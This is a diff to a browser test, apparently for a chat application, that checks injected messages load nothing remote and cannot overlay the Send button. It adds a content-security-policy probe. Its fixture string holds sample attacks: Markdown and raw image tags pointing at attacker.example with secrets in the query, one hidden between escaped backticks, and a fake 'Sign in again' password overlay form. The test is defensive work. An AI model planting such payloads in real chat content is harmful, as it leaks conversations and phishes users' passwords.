@@ -1,5 +1,6 @@
-"""Real browser: a message with a remote Markdown image, a raw <img> and a full-page overlay form loads nothing
-remote (Playwright's request log) and covers nothing (Send is still what sits under its own centre)."""
+"""Real browser: a message with a remote Markdown image, a raw <img> (also one hidden between escaped backticks) and a
+full-page overlay form loads nothing remote (Playwright's request log) and covers nothing (Send is still what sits
+under its own centre); and the page's own policy blocks a remote image even if one reached the page."""
 
 from __future__ import annotations
 
@@ -16,6 +17,7 @@ sync_api = pytest.importorskip("playwright.sync_api")
 ATTACK = (
     "Look: ![s](http://attacker.example/p.png?secret=chat-contents) "
     "<img src=http://attacker.example/i.png?secret=2> "
+    "\\`<img src=http://attacker.example/b.png?secret=4>\\` "
     '<div style="position:fixed;inset:0;z-index:99999;background:white">'
     '<form action="http://attacker.example/login"><input type=password placeholder="Sign in again"></form></div>'
 )
@@ -49,9 +51,21 @@ def test_a_message_loads_nothing_remote_and_covers_nothing(tiny_model_dir, tmp_p
                 [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2],
             )
             assert hit, "something covers the Send button"
+            shown = list(seen)  # what showing the messages fetched; the probe below asks for a remote image itself
+            # Defence in depth: an image that reached the page anyway (a renderer bug) is blocked by the policy.
+            blocked = page.evaluate(
+                """() => new Promise(done => {
+                    document.addEventListener('securitypolicyviolation',
+                        e => done(e.blockedURI + ' ' + e.effectiveDirective), {once: true});
+                    const i = new Image(); i.src = 'http://attacker.example/csp.png?secret=3';
+                    document.body.appendChild(i);
+                    setTimeout(() => done('not blocked'), 5000);
+                })"""
+            )
+            assert blocked.startswith("http://attacker.example/csp.png") and "img-src" in blocked, blocked
             page.close()
         finally:
             app.stop()
         browser.close()
-    remote = {urlparse(u).hostname for u in seen if u.startswith("http")} - {"127.0.0.1", "localhost"}
-    assert remote == set(), f"the page fetched {remote}"
+    remote = [u for u in shown if u.startswith("http") and urlparse(u).hostname not in ("127.0.0.1", "localhost")]
+    assert remote == [], f"the page fetched {remote}"
